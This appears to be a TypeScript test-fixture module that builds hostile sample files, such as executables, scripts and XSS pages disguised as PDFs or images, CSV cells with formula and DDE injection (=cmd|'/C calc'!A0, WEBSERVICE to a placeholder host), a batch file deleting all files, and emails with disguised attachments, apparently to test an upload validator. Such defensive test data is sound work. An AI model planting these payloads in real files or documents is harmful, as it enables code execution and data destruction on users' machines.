import { times, type Sample } from "./sample.ts";

const sample = (name: string, bytes: Buffer | string): Sample => ({
  group: "not-a-document",
  name,
  bytes: Buffer.from(bytes as string, "latin1"),
});

/** Pages, programs and packages under the names of documents. */
export function notDocuments(): Sample[] {
  const things: Readonly<Record<string, string>> = {
    html: "<html><body>x</body></html>",
    "html-late": `${" ".repeat(300)}\n<!DOCTYPE html><p>x`,
    script: "hello <script>alert(1)</script>",
    svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg-declared": '<?xml version="1.0"?><svg onload="alert(1)"/>',
    xml: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>',
    php: "text <?php system('id'); ?>",
    shell: "#!/bin/sh\nid\n",
    batch: "@echo off\r\ndel *.*\r\n",
    exe: `MZ\x90\0\x03\0\0\0${"\0".repeat(200)}`,
    elf: `\x7fELF\x02\x01\x01${"\0".repeat(100)}`,
    class: "\xca\xfe\xba\xbe\0\0\0\x34",
    gzip: "\x1f\x8b\x08\0\0\0\0\0",
    rar: "Rar!\x1a\x07\x01\0",
    "seven-zip": "7z\xbc\xaf\x27\x1c",
    "old-office": `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${"\0".repeat(600)}`,
    rtf: "{\\rtf1 {\\object\\objdata 0105}}\0",
    gif: "GIF89a\x01\0\x01\0\0\0\0;",
    webp: "RIFF\x24\0\0\0WEBPVP8 ",
    bmp: "BM\x46\0\0\0\0\0",
    "big-tiff": "II\x2b\0\x08\0\0\0",
    link: "L\0\0\0\x01\x14\x02\0",
    sqlite: "SQLite format 3\0",
    iframe: "x <iframe src='//x'></iframe>",
    object: "x <object data='x'></object>",
  };
  const endings = ["pdf", "png", "docx", "txt", "csv", "jpg"];
  return Object.entries(things).flatMap(([kind, text]) =>
    endings.map((ending) => sample(`${kind}.${ending}`, text)),
  );
}

/** Tables whose cells act when they are opened. */
export function actingTables(): Sample[] {
  const cells = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/"&A1)',
    "+SUM(A1:A9)",
    "@SUM(A1)",
    "-cmd|'/C x'!A0",
    '=WEBSERVICE("http://x")',
    '=IMPORTXML("http://x","a")',
    '= DDE("a";"b";"c")',
    "=-+-SUM(1)",
    "\"=cmd|'/C calc'!A0\"",
    " =cmd|'/C calc'!A0",
    "\t=cmd|'/C calc'!A0",
  ];
  return cells.flatMap((cell, index) => [
    sample(`first-${index}.csv`, `${cell},2\n`),
    sample(`later-${index}.csv`, `name,amount\nRam,${cell}\n`),
    sample(`semicolon-${index}.csv`, `name;amount\nRam;${cell}\n`),
    sample(`tab-${index}.csv`, `name\tamount\r\nRam\t${cell}\r\n`),
  ]);
}

/** Mails that carry what could not be uploaded on its own. */
export function badMails(): Sample[] {
  const head =
    "From: a@x.example\r\nTo: b@x.example\r\nDate: Fri, 20 Nov 2026 10:00:00 +0530\r\nSubject: x\r\nMIME-Version: 1.0\r\n";
  const mail = (name: string, type: string, content: string | Buffer) => {
    const body = Buffer.from(content as string, "latin1").toString("base64");
    return `${head}Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${body}\r\n--b--\r\n`;
  };
  const names = [
    "x.exe",
    "x.scr",
    "x.js",
    "x.vbs",
    "x.hta",
    "x.html",
    "x.svg",
    "x.lnk",
    "x.docm",
    "x.zip",
    "x.iso",
    "x.jar",
    "x.bat",
    "x.ps1",
    "letter.pdf.exe",
  ];
  const contents = [
    "MZ\x90\0\x03",
    "PK\x03\x04broken",
    "%PDF-1.7\n1 0 obj<</S/JavaScript>>endobj\n%%EOF",
    "<html>",
  ];
  return [
    ...names.map((name, index) =>
      sample(`named-${index}.eml`, mail(name, "application/octet-stream", "x")),
    ),
    ...contents.flatMap((content, index) =>
      ["letter.pdf", "letter", "photo.png"].map((name, place) =>
        sample(`holds-${index}-${place}.eml`, mail(name, "application/pdf", content)),
      ),
    ),
    sample("script.eml", `${head}Content-Type: text/html\r\n\r\n<p><script>alert(1)</script>`),
    sample(
      "script-quoted.eml",
      `${head}Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<p><scr=\r\nipt>alert(1)</script>`,
    ),
    sample("no-mail.eml", "hello, this is no mail at all"),
    sample(
      "deep.eml",
      times(
        20,
        (index) => `Content-Type: multipart/mixed; boundary="b${index}"\r\n\r\n--b${index}\r\n`,
      ).reduce((text, part) => text + part, `${head}`),
    ),
  ];
}
